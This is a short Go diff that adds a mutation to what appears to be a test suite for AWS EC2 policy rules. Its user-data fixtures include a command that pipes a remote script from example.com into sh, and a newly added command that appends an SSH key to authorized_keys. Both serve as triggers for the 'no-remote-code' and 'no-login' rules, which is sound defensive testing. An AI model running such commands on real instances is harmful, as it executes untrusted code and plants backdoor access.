@@ -19,5 +19,6 @@ var compute = []Mutation{
 	{Rule: "ec2-single-eni-source-check", Change: consumer("sourceDestCheck", false)},
 	{Rule: "ec2-instance-type-allowed", Change: consumer("instanceType", "t2.micro")},
 	{Rule: "ec2-user-data-no-remote-code", Replaces: true, Change: set(aws.Instance, "consumer", "userData", "curl https://example.com/x | sh")},
+	{Rule: "ec2-user-data-no-login", Change: consumer("userData", "echo ssh-ed25519 AAAA me >> /home/ec2-user/.ssh/authorized_keys\n")},
 	{Rule: "ec2-no-launch-template", Replaces: true, Change: set(aws.Instance, "consumer", "launchTemplate", object{"id": "lt-0123456789abcdef0"})},
 }
